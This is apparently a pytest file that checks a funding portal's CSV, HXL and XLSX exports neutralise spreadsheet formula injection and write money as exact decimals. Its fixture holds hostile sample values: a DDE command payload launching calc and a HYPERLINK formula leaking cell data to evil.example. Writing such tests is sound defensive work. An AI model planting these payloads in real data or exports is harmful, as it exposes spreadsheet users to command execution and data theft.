"""Exports cannot carry formulas (issue 11, item 4): a title or reference that a spreadsheet
would run comes out neutralised in every CSV, HXL and XLSX; XLSX text is written as strings and
money as its exact decimal digits."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import hxl
import pytest
from openpyxl import load_workbook

from crp_portal import pagecache
from crp_portal.spreadsheets import neutralise
from funding import services
from funding.models import Contribution
from interventions.models import Intervention
from plans.models import Plan

EVIL = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

pytestmark = pytest.mark.django_db


@pytest.fixture
def evil(demo):
    """The demo, with a plan, an intervention and a contribution whose texts are formulas."""
    Plan.objects.filter(slug="tajikistan-crp-2020").update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    Intervention.objects.filter(title="Community stabilization").update(title=EVIL)
    Contribution.objects.filter(plan__slug="tajikistan-crp-2020").update(reference=LINK)
    services.group_rollups_recompute()
    pagecache.pages_bump()


def _text(response) -> str:
    assert response.status_code == 200, response.content[:300]
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8-sig")
    return response.content.decode("utf-8-sig")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    risky = [c for c in cells if c.startswith(DANGEROUS) and not _is_number(c)]
    assert risky == []


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", EVIL])
def test_a_text_that_starts_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-250.00", "+3", "-7", "Health", "", "a=b", "#sector"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/interventions/?format=csv",
        "/api/v1/interventions/?format=hxl",
        "/api/v1/plans/?format=csv",
        "/api/v1/plans/?format=hxl",
        "/api/v1/contributions/?format=csv",
        "/api/v1/contributions/?format=hxl",
        "/plans/?format=csv",
        "/plans/tajikistan-crp-2020/?format=csv",
        "/funding/?format=csv",
    ],
)
def test_csv_and_hxl_exports_carry_no_formula(evil, api_client, url):
    text = _text(api_client.get(url))
    cells = _cells(text)
    _assert_no_formula(cells)
    # The texts are all there, with a quote in front, whole.
    assert any(c.startswith("'=") or c.startswith("'@") for c in cells)


def test_api_exports_keep_the_texts_and_parse_with_libhxl(evil, api_client):
    text = _text(api_client.get("/api/v1/interventions/?format=hxl"))
    titles = [row.get("#activity+name") for row in hxl.data(io.BytesIO(text.encode()))]
    assert "'" + EVIL in titles
    assert EVIL not in titles
    text = _text(api_client.get("/api/v1/contributions/?format=hxl"))
    rows = list(hxl.data(io.BytesIO(text.encode())))
    references = {row.get("#meta+ref") for row in rows}
    assert "'" + LINK in references
    assert LINK not in references
    text = _text(api_client.get("/api/v1/plans/tajikistan-crp-2020/?format=csv"))
    _assert_no_formula(_cells(text))


def test_a_negative_figure_stays_a_number(api_client, evil):
    # The flattened CSV of a detail writes money from its JSON text: "-5.00" is a number.
    from crp_portal.api.renderers import CSVRenderer

    text = CSVRenderer().render({"gap": "-5.00", "title": "-5 people", "n": -3}).decode()
    assert text.splitlines()[1] == "-5.00,'-5 people,-3"


@pytest.mark.parametrize(
    "url",
    ["/plans/?format=xlsx", "/plans/tajikistan-crp-2020/?format=xlsx", "/funding/?format=xlsx"],
)
def test_xlsx_text_is_strings_and_money_exact(evil, client, url):
    response = client.get(url)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if c.data_type == "s"]
    _assert_no_formula(texts)
    assert any(t.startswith(("'=", "'@")) for t in texts)
    # Money is written as numbers, with the decimal's own digits in the file.
    numbers = [c for c in cells if c.data_type == "n"]
    assert numbers
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    written = re.findall(r"<v>([^<]*)</v>", xml)
    assert written
    assert [v for v in written if not re.fullmatch(r"-?[0-9]+(\.[0-9]{1,2})?", v)] == []


def test_xlsx_money_is_the_exact_decimal(evil, client):
    response = client.get("/plans/?format=xlsx&sort=required")
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>596934.18</v>" in xml
    assert "596934.1800000001" not in xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(sheet.iter_rows(min_row=2, max_row=2))
    assert row[0].data_type == "s"
    assert row[0].value.startswith("'@SUM")
    assert row[6].data_type == "n"
    assert Decimal(str(row[6].value)) == Decimal("596934.18")
